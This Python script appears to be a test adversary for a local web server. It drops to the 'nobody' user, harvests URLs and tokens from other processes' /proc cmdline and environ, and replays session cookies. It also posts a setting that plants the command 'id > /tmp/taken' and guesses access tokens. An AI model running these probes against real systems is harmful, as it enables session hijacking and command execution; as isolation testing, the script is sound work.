"""Becomes another user and looks for a page to take over. Each line on stdin is one round; the end brings the loot.

A line is JSON: the server to break into (a real thief would try them all; this one leaves other people's alone), and
either the folder that files of interest lie in, or a path and a cookie to try. Everything is imported first:
afterwards this user may not even read Python's own files.
"""

from __future__ import annotations

import contextlib
import encodings.ascii
import encodings.idna  # noqa: F401 - asked for by every connection
import http.client
import json
import os
import re
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode, urlsplit
from urllib.request import url2pathname

NOBODY = 65534
SAVE = json.dumps({"act": "save", "values": {"quiet.command": "id > /tmp/taken"}})
FORM = {"Content-Type": "application/x-www-form-urlencoded", "Origin": "null"}
ADDRESS = re.compile(rb"(?:http|file)://[^\s\0\"']+")

loot: dict[str, list[str]] = {"seen": [], "served": [], "read": [], "saved": []}
knocked = 0


def ask(server: str, path: str, body: str | None, headers: dict[str, str]) -> tuple[int, str, str]:
    """Status, body and cookie; zero where there is no answer."""
    global knocked
    knocked += 1
    door = http.client.HTTPConnection(server, timeout=5)
    try:
        door.request("GET" if body is None else "POST", path, body, {"Host": server} | headers)
        reply = door.getresponse()
        return reply.status, reply.read().decode("utf-8", "replace"), reply.getheader("Set-Cookie") or ""
    except (OSError, http.client.HTTPException):
        return 0, "", ""
    finally:
        door.close()


def addresses() -> Iterator[str]:
    """Whatever stands in an argument list or an environment."""
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ"):
            with contextlib.suppress(OSError):
                yield from (
                    found.decode("utf-8", "replace")
                    for found in ADDRESS.findall((process / name).read_bytes())
                )


def break_in(server: str, path: str, cookie: str = "") -> None:
    status, _, fresh = ask(server, path, None, {"Cookie": cookie} if cookie else {})
    if status == 200:
        loot["served"].append(path)
    cookie = fresh.split(";")[0] or cookie
    status, answer, _ = ask(server, path + "do", SAVE, {"Cookie": cookie, "Content-Type": "application/json"})
    if status == 200:
        loot["saved"].append(answer[:200])


def read(file: Path) -> None:
    """What the opener was given, and all that lies beside it."""
    for one in (file, *sorted(file.parent.parent.glob("*/*.html"))):
        with contextlib.suppress(OSError):
            loot["read"].append(one.read_text("utf-8")[:200])


def look(server: str, folder: str) -> None:
    for address in {*addresses()}:
        url = urlsplit(address)
        if url.netloc == server:
            loot["seen"].append(address)
            break_in(server, url.path)
        elif url.path.startswith(folder):
            loot["seen"].append(address)
            with contextlib.suppress(OSError):
                read(Path(url2pathname(url.path)))
    for token in ("", "guess", "0" * 32):
        status, _, _ = ask(server, "/open", urlencode({"token": token}), FORM)
        if status == 200:
            loot["served"].append(server)


os.setgroups([])
os.setgid(NOBODY)
os.setuid(NOBODY)
for line in sys.stdin:
    known = json.loads(line)
    if "cookie" in known:
        break_in(known["server"], known["path"], known["cookie"])
    else:
        look(known["server"], known["folder"])
    print("looked", flush=True)
print(json.dumps(loot | {"knocked": knocked}), flush=True)
